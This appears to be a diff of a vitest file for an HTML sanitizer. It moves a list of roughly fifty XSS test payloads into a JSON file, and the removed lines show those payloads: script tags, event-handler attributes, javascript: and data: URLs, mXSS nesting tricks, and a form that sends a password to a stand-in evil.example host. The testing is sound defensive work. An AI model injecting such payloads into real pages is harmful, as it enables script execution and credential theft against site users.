@@ -1,64 +1,12 @@
 import { DomUtils, parseDocument } from "htmlparser2";
 import { expect, test } from "vitest";
+import hostile from "../../../tests/journeys/hostile-html.json" with { type: "json" };
 import { safeHtml } from "./safe-html.server.ts";
 
-/** Each would run a script, load a frame, send a form or leave the text's own box if it were shown as it is. */
-const hostile = [
-  "<script>alert(1)</script>",
-  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-  "<img src=x onerror=alert(1)>",
-  "<img src=x onerror\n=\nalert(1)>",
-  "<svg onload=alert(1)>",
-  "<svg><script>alert(1)</script></svg>",
-  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java&#10;script:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href=" javascript:alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
-  '<a href="blob:https://evil.example/1">x</a>',
-  '<a href="file:///etc/passwd">x</a>',
-  '<img src="javascript:alert(1)">',
-  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
-  '<img src="x" style="background:url(javascript:alert(1))">',
-  '<img srcset="https://evil.example/x.png 1x">',
-  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
-  '<p style="color:expression(alert(1))">x</p>',
-  '<p style="background-color:url(//evil.example)">x</p>',
-  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
-  '<iframe src="https://evil.example"></iframe>',
-  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-  '<object data="x.swf"></object><embed src="x.swf">',
-  '<form action="https://evil.example"><input name=password><button>x</button></form>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  "<style>body{display:none}</style>",
-  "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
-  "<details open ontoggle=alert(1)>x</details>",
-  '<p id="main" name="body" class="fixed inset-0">x</p>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  "<textarea><img src=x onerror=alert(1)></textarea>",
-  "<title><img src=x onerror=alert(1)></title>",
-  "<xmp><img src=x onerror=alert(1)></xmp>",
-  "<!--><img src=x onerror=alert(1)>-->",
-  "<<script>alert(1)//<</script>",
-  '<a href="https://evil.example" target="_blank" ping="https://evil.example" onclick=alert(1)>x</a>',
-  '<img src="https://x.example/a.png" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
-  "<template><script>alert(1)</script></template>",
-  '<p data-x="1" contenteditable autofocus tabindex=1 onfocus=alert(1)>x</p>',
-];
+const attacks = Object.values(hostile).flat();
 
-const tags =
-  /^(h[1-6]|p|div|blockquote|pre|hr|[uo]l|li|figure|figcaption|table|caption|colgroup|col|thead|tbody|tfoot|tr|t[hd]|br|a|img|span|strong|b|em|i|u|s|mark|sub|sup|code)$/;
-const attributes = /^(style|class|href|rel|title|src|alt|width|height|start|colspan|rowspan|scope|span)$/;
+const tags = /^(h[1-6]|p|div|blockquote|pre|hr|[uo]l|li|figure|figcaption|table|caption|thead|tbody|tfoot|tr|t[hd]|br|a|img|span|strong|em|u|s|sub|sup|code)$/;
+const attributes = /^(style|class|href|rel|title|src|alt|width|height|start|colspan|rowspan|scope|data-list)$/;
 const address = /^(https?:|mailto:|tel:|\/|#|data:image\/(png|gif|jpeg|webp|avif|bmp|x-icon))/;
 const style = /^((color|background-color|text-align):[#\w(),.% ]+;?)*$/;
 
@@ -71,14 +19,18 @@ function dangers(html: string): string[] {
     ...[attribs.href, attribs.src].filter((value) => value !== undefined && !address.test(value)),
     ...(attribs.style && !style.test(attribs.style) ? [attribs.style] : []),
     ...(attribs.style && /url|expression/i.test(attribs.style) ? [attribs.style] : []),
-    ...(attribs.class && !/^((ql-)?indent-[1-8]|ql-align-\w+|ql-syntax|language-[\w-]+)( |$)/.test(attribs.class) ? [attribs.class] : []),
+    ...(attribs.class && !/^((ql-)?indent-[1-8]|ql-align-\w+|ql-syntax|ql-code-block(-container)?|figure-\w+|language-[\w-]+)( |$)/.test(attribs.class)
+      ? [attribs.class]
+      : []),
   ]) as string[];
 }
 
-for (const html of hostile) {
-  test(`comes out harmless: ${html.replaceAll("\n", " ")}`, () => {
-    expect(dangers(safeHtml(html))).toEqual([]);
-    expect(dangers(safeHtml(`<p>before ${html} after</p>`))).toEqual([]);
+for (const [kind, list] of Object.entries(hostile)) {
+  test(`come out harmless: ${kind}`, () => {
+    for (const html of list) {
+      expect(dangers(safeHtml(html)), html).toEqual([]);
+      expect(dangers(safeHtml(`<p>before ${html} after</p>`)), html).toEqual([]);
+    }
   });
 }
 
@@ -88,6 +40,7 @@ test("the check above sees what is dangerous", () => {
 
 test("what the editor makes passes unchanged", () => {
   const made = [
+    '<figure class="figure-small figure-left"><img src="/uploads/a.jpg" alt="A" width="3" height="2"><figcaption>c</figcaption></figure><hr><p>a<br>b</p>',
     '<h2 style="text-align:center">T</h2><p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <code>c</code></p>',
     '<p style="color:#b5361c;background-color:rgb(1, 2, 3)">c</p><p class="indent-3">in</p>',
     '<ol start="3"><li><p>one</p></li></ol><blockquote><p>q</p></blockquote>',
@@ -99,7 +52,7 @@ test("what the editor makes passes unchanged", () => {
 });
 
 test("cleaning twice changes nothing more", () => {
-  const once = hostile.map(safeHtml);
+  const once = attacks.map(safeHtml);
   expect(once.map(safeHtml)).toEqual(once);
 });
 
